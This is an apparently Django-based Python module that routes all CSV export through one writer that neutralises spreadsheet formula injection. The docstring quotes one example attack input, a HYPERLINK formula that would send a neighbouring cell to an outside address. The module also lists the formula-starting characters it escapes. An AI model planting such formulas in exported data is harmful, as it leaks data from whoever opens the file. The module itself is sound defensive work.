"""The one CSV writer: every CSV the app writes goes through it, so no cell can run as a formula.

A spreadsheet runs a cell that starts with =, +, - or @ as a formula, and some also one that starts with a
tab or a carriage return before one (OWASP, "CSV Injection"; ASVS 1.2.10 adds NUL). A name or a reason typed
as `=HYPERLINK("http://…?"&A1,"Click")` would arrive as a live link that sends the next cell away. So:

- text that starts with one of those characters (or their full-width forms, which some spreadsheets read
  as the same) gets an apostrophe before it: a spreadsheet takes a leading apostrophe as "this is text" and
  does not show it;
- numbers stay numbers (an int, float or Decimal is never text, so -12 is a number, not a formula);
- every text cell is quoted (csv.QUOTE_NONNUMERIC), so a spreadsheet set to split on ";" cannot cut
  `x;=1+1` into a second cell that starts with "=".

`writer(file)` is csv.writer with that done to every cell; `stream(rows)` yields the lines for a
StreamingHttpResponse. A test fails if any module writes CSV with its own csv.writer
(tests/security/test_csv_injection.py).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: numbers as they are, None as empty, text as text."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool too: written as True/False
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    def __init__(self, file: Any) -> None:
        self._writer = csv.writer(file, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: Any) -> SafeWriter:
    """csv.writer(file) for the app: every cell made safe to open in a spreadsheet."""
    return SafeWriter(file)


class _Echo:
    """A file whose write() hands the line back, so each row can be streamed as it is written."""

    def write(self, value: str) -> str:
        return value


def stream(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Each row as a CSV line, for a StreamingHttpResponse (a national list in bounded memory)."""
    lines = writer(_Echo())
    for row in rows:
        yield lines.writerow(row)
